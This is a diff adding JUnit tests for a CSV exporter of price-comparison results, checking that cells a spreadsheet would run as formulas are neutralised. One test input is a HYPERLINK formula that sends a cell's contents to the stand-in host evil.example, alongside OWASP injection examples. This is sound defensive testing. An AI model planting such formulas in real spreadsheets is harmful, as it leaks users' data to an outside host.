@@ -12,7 +12,7 @@ import java.util.List;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
-/** Results as CSV: the flattened columns and RFC 4180 quoting. */
+/** Results as CSV: the flattened columns, RFC 4180 quoting and no cell a spreadsheet would run as a formula. */
 class ResultsCsvTest {
     @Test
     void theHeaderRowNamesTheFlattenedColumns() throws Exception {
@@ -46,6 +46,47 @@ class ResultsCsvTest {
         assertEquals("\"two\nlines\"", ResultsCsv.quoted("two\nlines"));
         assertEquals("\"cr\rlf\"", ResultsCsv.quoted("cr\rlf"));
         assertEquals("", ResultsCsv.quoted(""));
+    }
+
+    @Test
+    void aTextCellASpreadsheetWouldReadAsAFormulaGetsAQuoteInFrontAndIsQuoted() {
+        assertEquals("\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"세일\"\")\"",
+                ResultsCsv.textCell("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"세일\")"));
+        assertEquals("\"'+1\"", ResultsCsv.textCell("+1"));
+        assertEquals("\"'-2+3\"", ResultsCsv.textCell("-2+3"));
+        assertEquals("\"'@SUM(A1:A9)\"", ResultsCsv.textCell("@SUM(A1:A9)"));
+        assertEquals("\"'\t=1\"", ResultsCsv.textCell("\t=1"));
+        assertEquals("\"'\r=1\"", ResultsCsv.textCell("\r=1"));
+        // OWASP's two examples: a separator or a quote inside stays inside the one cell
+        assertEquals("\"'=1+2\"\";=1+2\"", ResultsCsv.textCell("=1+2\";=1+2"));
+        assertEquals("\"'=1+2'\"\" ;,=1+2\"", ResultsCsv.textCell("=1+2'\" ;,=1+2"));
+        // a formula character anywhere else is text already
+        assertEquals("셔츠 =1+1", ResultsCsv.textCell("셔츠 =1+1"));
+        assertEquals("\"a,=1+1\"", ResultsCsv.textCell("a,=1+1"));
+        assertEquals("", ResultsCsv.textCell(""));
+    }
+
+    @Test
+    void numbersAndBooleansTheResultsHoldAreWrittenAsTheyAreWhileTextThatLooksLikeANumberIsText() throws Exception {
+        StringWriter out = new StringWriter();
+        ResultsCsv.writeResult(out, Json.read("""
+                {"url": "https://www.musinsa.com/products/1", "platform": "musinsa", "status": "success",
+                 "match": false, "expected": {"original_price": -1000, "discounted_price": "-900"},
+                 "fetched": {"original_price": -1000, "discounted_price": 1.5E3, "brand": -1e999},
+                 "comparison": {"original_price": true, "discounted_price": false}}"""));
+
+        List<String> cells = List.of(out.toString().strip().split(",", -1));
+        List<String> columns = ResultsCsv.columns();
+        assertEquals("-1000", cells.get(columns.indexOf("expected_original_price")),
+                "a JSON number is never a formula: a negative price stays a number for the spreadsheet");
+        assertEquals("\"'-900\"", cells.get(columns.indexOf("expected_discounted_price")),
+                "text a caller sent is neutralised like any text");
+        assertEquals("-1000", cells.get(columns.indexOf("fetched_original_price")));
+        assertEquals("1500.0", cells.get(columns.indexOf("fetched_discounted_price")));
+        assertEquals("\"'-Infinity\"", cells.get(columns.indexOf("fetched_brand")),
+                "a number too large for a double is no number a spreadsheet reads, so it is text");
+        assertEquals("false", cells.get(columns.indexOf("match")));
+        assertEquals("false", cells.get(columns.indexOf("match_discounted_price")));
     }
 
     @Test
